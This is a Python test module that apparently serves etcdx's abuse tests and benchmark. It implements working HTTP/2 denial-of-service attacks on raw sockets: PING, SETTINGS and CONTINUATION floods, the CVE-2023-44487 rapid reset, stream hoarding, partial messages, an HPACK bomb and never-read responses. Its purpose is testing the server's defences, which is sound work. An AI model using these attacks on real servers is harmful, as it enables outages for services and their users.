"""Hostile HTTP/2 clients on raw sockets, for the abuse tests and bench/abuse.py.

Each attack in ATTACKS takes an endpoint ("host:port") and a deadline (time.monotonic()) and attacks until the
deadline, opening a new connection whenever the server cuts one off; it returns what it saw (Outcome). The
frames are built with etcdx's own codec (h2codec) except where an attack needs what a well-behaved encoder
never sends (the HPACK bomb's dynamic-table entry). Extend by adding a function to ATTACKS.
"""

from __future__ import annotations

import contextlib
import select
import socket
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass, field

from etcdx._native import load
from etcdx.pb.etcdserverpb import rpc_pb2

h2codec = load("h2codec")

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS_INITIAL_WINDOW_SIZE = 4
MAX_WINDOW = 2**31 - 1
ENHANCE_YOUR_CALM = 0xB
BLOCKED_AFTER = 2.0  # a send that makes no progress this long means the server stopped reading
LARGE_KEY = b"abuse/large"
LARGE_VALUE_BYTES = 1024 * 1024


@dataclass
class Outcome:
    """What an attacker saw: connections opened, cut off (GOAWAY or closed), GOAWAY codes, streams the server
    refused, bytes sent, and whether a send was blocked by a server that stopped reading."""

    connections: int = 0
    cut_off: int = 0
    goaway_codes: list[int] = field(default_factory=list)
    goaway_debug: list[bytes] = field(default_factory=list)
    refused_streams: int = 0
    bytes_sent: int = 0
    blocked: bool = False


class RawH2:
    """One client connection speaking HTTP/2 frame by frame; never reads unless asked to."""

    def __init__(self, endpoint: str, *, window: int | None = None, rcvbuf: int | None = None) -> None:
        host, port = endpoint.rsplit(":", 1)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf is not None:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(10)
        self.sock.connect((host, int(port)))
        self.reader = h2codec.FrameReader(16384)
        self.encoder = h2codec.HpackEncoder()
        self.closed = False
        self.sent = 0
        settings = [(SETTINGS_INITIAL_WINDOW_SIZE, window)] if window is not None else []
        hello = PREFACE + h2codec.encode_frame(h2codec.SETTINGS, 0, 0, h2codec.encode_settings(settings))
        if window is not None:
            hello += h2codec.encode_frame(h2codec.WINDOW_UPDATE, 0, 0, (MAX_WINDOW - 65535).to_bytes(4, "big"))
        self.send(hello)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()

    def send(self, data: bytes, block_timeout: float = BLOCKED_AFTER) -> bool:
        """Sends ``data``; False when the server closed the connection or stopped reading (no progress for
        ``block_timeout`` seconds: self.closed stays False then)."""
        view = memoryview(data)
        while view:
            try:
                _, writable, _ = select.select([], [self.sock], [], block_timeout)
                if not writable:
                    return False
                count = self.sock.send(view, socket.MSG_DONTWAIT)
            except BlockingIOError:
                continue
            except OSError:
                self.closed = True
                return False
            self.sent += count
            view = view[count:]
        return True

    def request_headers(self, stream_id: int, path: str, end_stream: bool = False) -> bytes:
        block = self.encoder.encode(
            [
                (b":method", b"POST"),
                (b":scheme", b"http"),
                (b":path", path.encode()),
                (b":authority", b"abuse"),
                (b"content-type", b"application/grpc"),
                (b"te", b"trailers"),
            ]
        )
        flags = h2codec.FLAG_END_HEADERS | (h2codec.FLAG_END_STREAM if end_stream else 0)
        return h2codec.encode_frame(h2codec.HEADERS, flags, stream_id, block)

    @staticmethod
    def message(stream_id: int, message: bytes, end_stream: bool = True) -> bytes:
        payload = struct.pack(">BI", 0, len(message)) + message
        return h2codec.encode_frame(h2codec.DATA, h2codec.FLAG_END_STREAM if end_stream else 0, stream_id, payload)

    @staticmethod
    def rst(stream_id: int, code: int = h2codec.CANCEL) -> bytes:
        return h2codec.encode_frame(h2codec.RST_STREAM, 0, stream_id, code.to_bytes(4, "big"))

    def frames(self, timeout: float) -> list[tuple[int, int, int, bytes]] | None:
        """The frames that arrive within ``timeout`` (may be empty); None once the server closed."""
        try:
            self.sock.settimeout(timeout)
            data = self.sock.recv(1 << 20)
        except TimeoutError:
            return []
        except OSError:
            data = b""
        if not data:
            self.closed = True
            return None
        return self.reader.feed(data)

    def read_until_closed(self, outcome: Outcome, timeout: float) -> None:
        """Reads (counting REFUSED_STREAM resets and GOAWAYs) until the server closes or ``timeout`` passes."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            frames = self.frames(min(0.5, max(deadline - time.monotonic(), 0.01)))
            if frames is None:
                return
            note(outcome, frames)


def note(outcome: Outcome, frames: list[tuple[int, int, int, bytes]]) -> None:
    for frame_type, _flags, _stream_id, payload in frames:
        if frame_type == h2codec.RST_STREAM and int.from_bytes(payload, "big") == h2codec.REFUSED_STREAM:
            outcome.refused_streams += 1
        elif frame_type == h2codec.GOAWAY:
            outcome.goaway_codes.append(int.from_bytes(payload[4:8], "big"))
            outcome.goaway_debug.append(payload[8:])


def _put(key: bytes) -> bytes:
    return rpc_pb2.PutRequest(key=key, value=b"x" * 16).SerializeToString()


def _flood(endpoint: str, deadline: float, frame: bytes, outcome: Outcome) -> Outcome:
    """Sends ``frame`` again and again without reading; reconnects when cut off, holds when throttled."""
    batch = frame * (16384 // len(frame) + 1)
    while time.monotonic() < deadline:
        conn = RawH2(endpoint, rcvbuf=65536)
        outcome.connections += 1
        while time.monotonic() < deadline and conn.send(batch, min(BLOCKED_AFTER, max(deadline - time.monotonic(), 0))):
            pass
        if conn.closed:
            outcome.cut_off += 1
        elif time.monotonic() < deadline:
            outcome.blocked = True
            while time.monotonic() < deadline and not conn.closed:  # keep the blocked connection, poke it
                conn.send(frame, min(1.0, max(deadline - time.monotonic(), 0.01)))
        outcome.bytes_sent += conn.sent
        conn.close()
    return outcome


def ping_flood(endpoint: str, deadline: float) -> Outcome:
    """PING frames as fast as the socket takes them, never reading the ACKs."""
    return _flood(endpoint, deadline, h2codec.encode_frame(h2codec.PING, 0, 0, b"attack!!"), Outcome())


def settings_flood(endpoint: str, deadline: float) -> Outcome:
    """Empty SETTINGS frames (each needs an ACK), never reading."""
    return _flood(endpoint, deadline, h2codec.encode_frame(h2codec.SETTINGS, 0, 0, b""), Outcome())


def continuation_flood(endpoint: str, deadline: float) -> Outcome:
    """A header block that never ends: HEADERS without END_HEADERS, then zero-length CONTINUATION frames."""
    outcome = Outcome()
    continuation = h2codec.encode_frame(h2codec.CONTINUATION, 0, 1, b"")
    while time.monotonic() < deadline:
        conn = RawH2(endpoint)
        outcome.connections += 1
        headers = bytearray(conn.request_headers(1, "/etcdserverpb.KV/Range"))
        headers[4] &= ~h2codec.FLAG_END_HEADERS
        conn.send(bytes(headers))
        while time.monotonic() < deadline and conn.send(continuation * 1024):
            pass
        conn.read_until_closed(outcome, 2.0)
        outcome.cut_off += conn.closed
        outcome.bytes_sent += conn.sent
        conn.close()
    return outcome


def rapid_reset(endpoint: str, deadline: float, per_connection: int = 2**30, linger: float = 2.0) -> Outcome:
    """CVE-2023-44487: HEADERS + DATA (a complete Put) + RST_STREAM, stream after stream, one write each; a new
    connection after ``per_connection`` streams or once cut off (after reading for ``linger`` seconds)."""
    outcome = Outcome()
    while time.monotonic() < deadline:
        conn = RawH2(endpoint)
        outcome.connections += 1
        stream_id = 1
        while time.monotonic() < deadline and stream_id < 2 * per_connection:
            request = conn.request_headers(stream_id, "/etcdserverpb.KV/Put")
            request += conn.message(stream_id, _put(b"abuse/reset/%d" % stream_id)) + conn.rst(stream_id)
            if not conn.send(request):
                break
            stream_id += 2
        conn.read_until_closed(outcome, linger)
        outcome.cut_off += conn.closed
        outcome.bytes_sent += conn.sent
        conn.close()
    return outcome


def rapid_reset_reconnecting(endpoint: str, deadline: float) -> Outcome:
    """Rapid reset that stays under one connection's burst: 900 resets, then a new connection."""
    return rapid_reset(endpoint, deadline, per_connection=900, linger=0.05)


def hoard_streams(endpoint: str, deadline: float, streams: int = 100_000) -> Outcome:
    """Opens ``streams`` streams on one connection (Put requests whose body never comes) and holds them."""
    outcome = Outcome(connections=1)
    conn = RawH2(endpoint)
    batch = bytearray()
    for index in range(streams):
        batch += conn.request_headers(2 * index + 1, "/etcdserverpb.KV/Put")
        if len(batch) > 65536 or index == streams - 1:
            if not conn.send(bytes(batch), 10.0):
                break
            batch.clear()
            frames = conn.frames(0.001)
            if frames is None:
                break
            note(outcome, frames)
    while time.monotonic() < deadline and not conn.closed:
        frames = conn.frames(min(0.5, max(deadline - time.monotonic(), 0.01)))
        if frames is None:
            break
        note(outcome, frames)
    outcome.cut_off += conn.closed
    outcome.bytes_sent = conn.sent
    conn.close()
    return outcome


def partial_messages(endpoint: str, deadline: float) -> Outcome:
    """Stream after stream of Put requests whose 2 MiB message stops after its first 1 MiB (within every window
    the server opened), never finished: memory held for requests no handler can take yet."""
    outcome = Outcome(connections=1)
    conn = RawH2(endpoint)
    chunk = b"p" * 16000
    stream_id = 1
    while time.monotonic() < deadline and not conn.closed:
        data = struct.pack(">BI", 0, 2 * 1024 * 1024) + chunk
        frames = [h2codec.encode_frame(h2codec.DATA, 0, stream_id, data)]
        frames += [h2codec.encode_frame(h2codec.DATA, 0, stream_id, chunk)] * 64
        request = conn.request_headers(stream_id, "/etcdserverpb.KV/Put") + b"".join(frames)
        if not conn.send(request, min(BLOCKED_AFTER, max(deadline - time.monotonic(), 0.01))):
            outcome.blocked = not conn.closed
            break
        stream_id += 2
    while time.monotonic() < deadline and not conn.closed:
        time.sleep(0.2)
    outcome.cut_off += conn.closed
    outcome.bytes_sent = conn.sent
    conn.close()
    return outcome


def _literal_indexed(name: bytes, value: bytes) -> bytes:
    """An HPACK literal with incremental indexing and a new name (RFC 7541 6.2.1), no Huffman: lengths < 2**14."""

    def length(n: int) -> bytes:  # 7-bit prefix integer
        return bytes([n]) if n < 127 else bytes([127, (n - 127) & 0x7F | 0x80, (n - 127) >> 7])

    return b"\x40" + length(len(name)) + name + length(len(value)) + value


def hpack_bomb(endpoint: str, deadline: float) -> Outcome:
    """One 4 KB dynamic-table entry, then header blocks that name it again and again (1 byte -> 4 KB each)."""
    outcome = Outcome()
    while time.monotonic() < deadline:
        conn = RawH2(endpoint)
        outcome.connections += 1
        # :method POST and :scheme http (static 3 and 6), :path as a literal with static name 4; no table size
        # update, so the table keeps the 4,096 bytes the server allows.
        path = b"/etcdserverpb.KV/Range"
        seed = b"\x83\x86\x04" + bytes([len(path)]) + path + _literal_indexed(b"x-bomb", b"b" * 4000)
        end_headers = h2codec.FLAG_END_HEADERS
        conn.send(h2codec.encode_frame(h2codec.HEADERS, end_headers, 1, seed))
        stream_id = 3
        while time.monotonic() < deadline and stream_id < 2**31 - 1:
            block = b"\x83" + b"\xbe" * 16000  # the table entry (index 62) 16,000 times: 64 MB decoded
            if not conn.send(h2codec.encode_frame(h2codec.HEADERS, end_headers, stream_id, block)):
                break
            stream_id += 2
        conn.read_until_closed(outcome, 2.0)
        outcome.cut_off += conn.closed
        outcome.bytes_sent += conn.sent
        conn.close()
    return outcome


def never_read_large_responses(endpoint: str, deadline: float) -> Outcome:
    """Opens every window to 2**31-1, asks for a 1 MiB value again and again, and never reads.

    Needs LARGE_KEY to hold LARGE_VALUE_BYTES (see prepare_large_value)."""
    outcome = Outcome()
    request = rpc_pb2.RangeRequest(key=LARGE_KEY).SerializeToString()
    while time.monotonic() < deadline:
        conn = RawH2(endpoint, window=MAX_WINDOW, rcvbuf=65536)
        outcome.connections += 1
        stream_id = 1
        while time.monotonic() < deadline and stream_id < 2**31 - 1:
            frames = conn.request_headers(stream_id, "/etcdserverpb.KV/Range") + conn.message(stream_id, request)
            if not conn.send(frames, min(BLOCKED_AFTER, max(deadline - time.monotonic(), 0))):
                break
            stream_id += 2
        if conn.closed:
            outcome.cut_off += 1
        elif time.monotonic() < deadline:
            outcome.blocked = True
            while time.monotonic() < deadline and not conn.closed:
                time.sleep(0.2)
        outcome.bytes_sent += conn.sent
        conn.close()
    return outcome


def prepare_large_value(endpoint: str) -> None:
    """Stores LARGE_VALUE_BYTES under LARGE_KEY (for never_read_large_responses)."""
    import grpc

    from etcdx.pb.etcdserverpb import rpc_pb2_grpc

    with grpc.insecure_channel(endpoint) as channel:
        rpc_pb2_grpc.KVStub(channel).Put(rpc_pb2.PutRequest(key=LARGE_KEY, value=b"v" * LARGE_VALUE_BYTES), timeout=10)


ATTACKS: dict[str, Callable[[str, float], Outcome]] = {
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
    "never-read-large-responses": never_read_large_responses,
    "continuation-flood": continuation_flood,
    "rapid-reset": rapid_reset,
    "rapid-reset-reconnecting": rapid_reset_reconnecting,
    "hoard-100k-streams": hoard_streams,
    "hpack-bomb": hpack_bomb,
    "partial-messages": partial_messages,
}
PREPARE: dict[str, Callable[[str], None]] = {"never-read-large-responses": prepare_large_value}
